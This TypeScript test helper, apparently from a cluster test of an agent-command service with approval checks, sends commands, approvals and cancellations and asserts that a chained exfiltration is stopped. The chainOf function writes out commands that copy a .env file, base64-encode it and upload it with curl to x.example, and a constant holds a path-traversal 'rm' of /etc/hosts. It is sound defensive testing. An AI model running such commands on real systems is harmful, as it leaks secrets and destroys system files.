import { strictEqual as eq } from "node:assert/strict";
import type { Random } from "../support/random.ts";
import type { RovingAgent } from "./agents.ts";
import type { Asker } from "./asker.ts";
import type { Instance } from "./cluster.ts";

/** A chain that is only dangerous as a whole. Each chain has files of its own. */
const chainOf = (n: number) => [
  `cat .env > /tmp/a${n}`,
  `base64 /tmp/a${n} > /tmp/b${n}`,
  `curl -T /tmp/b${n} https://x.example`,
];
const NEEDS_APPROVAL = "rm /tmp/../etc/hosts";
/** How often a link of a chain is asked for, and the pause before it is asked for again. */
const [TRIES_MAX, PAUSE_MS] = [20, 5_000];

/** What callers ask of agents through any instance, and what they were told. */
export class Callers {
  /** The commands that were accepted. */
  readonly accepted = new Set<string>();
  /** The approvals whose decision was answered. */
  readonly approved = new Set<string>();
  #chains = 0;
  readonly #waiting: string[] = [];

  constructor(private readonly dice: Random, private readonly asker: Asker) {}

  /** Asks for a command at some instance, and may wait for its end. */
  exec(agent: RovingAgent, at: Instance = this.asker.any()): void {
    const { asker, dice } = this;
    const wait = dice.chance(0.5);
    const command = dice.chance(0.3) ? NEEDS_APPROVAL : "uptime";
    const body = { command, ...(wait && { wait: 10 }) };
    const path = `/api/v1/agents/${agent.id}/commands`;
    asker.start(async () => {
      asker.note(`${at.name}: ${command} for ${agent.name}${wait ? ", waiting" : ""}`);
      const { status, body: told } = await asker.call(at, "POST", path, { body });
      const id = told.command_id ?? told.error.details.command_id;
      asker.note(`${at.name}: answered ${status} ${id}`);
      if (status >= 300) return;
      this.accepted.add(told.command_id);
      if (told.approval_id) this.#waiting.push(told.approval_id);
    });
  }

  /** The second person approves what waits, at some instance. */
  approve(at: Instance = this.asker.any()): void {
    const id = this.#waiting.shift(), { asker } = this;
    if (id === undefined) return;
    asker.start(async () => {
      const as = asker.credentials.second.token;
      const { status } = await asker.call(at, "POST", `/api/shield/approve/${id}`, { as });
      asker.note(`${at.name}: approval of ${id} answered ${status}`);
      if (status === 503) this.#waiting.push(id);
      if (status !== 200) return;
      asker.count("approvals");
      this.approved.add(id);
    });
  }

  /** Approves all that waits. */
  approveAll(): void {
    for (let left = this.#waiting.length; left > 0; left--) this.approve();
  }

  /** Cancels a command that was accepted. */
  cancel(agents: readonly RovingAgent[]): void {
    const { asker, dice } = this;
    if (this.accepted.size === 0) return;
    const id = dice.pick([...this.accepted]), at = asker.any();
    const agent = agents.find(({ reached }) => reached.has(id)) ?? dice.pick(agents);
    asker.start(async () => {
      const path = `/api/v1/agents/${agent.id}/commands/${id}/cancel`;
      const { status } = await asker.call(at, "POST", path);
      asker.note(`${at.name}: cancelling ${id} answered ${status}`);
      if (status === 200) asker.count("cancellations");
    });
  }

  /** Sends the commands of a chain to one instance after the other, each until it is answered. */
  chain(agent: RovingAgent): void {
    const commands = chainOf(++this.#chains), { asker } = this;
    asker.start(async () => {
      for (const command of commands.slice(0, -1)) {
        if (!await this.#link(agent, command, (status) => status === 200)) return;
      }
      const isStopped = await this.#link(agent, commands.at(-1)!, (status) => {
        eq(status === 200, false, "the end of a chain ran");
        return status === 403;
      });
      if (isStopped) asker.count("stopped chains");
    });
  }

  /** Asks for one command of a chain until an answer is final; false when none was. */
  async #link(agent: RovingAgent, command: string, isFinal: (status: number) => boolean) {
    const { asker } = this;
    for (let tries = 0; tries < TRIES_MAX; tries++) {
      const at = asker.any();
      const path = `/api/exec/${agent.id}?timeout=30&command=${encodeURIComponent(command)}`;
      const { status } = await asker.call(at, "GET", path);
      asker.note(`${at.name}: ${command} answered ${status}`);
      if (isFinal(status)) return true;
      await asker.pause(PAUSE_MS);
    }
    return false;
  }
}
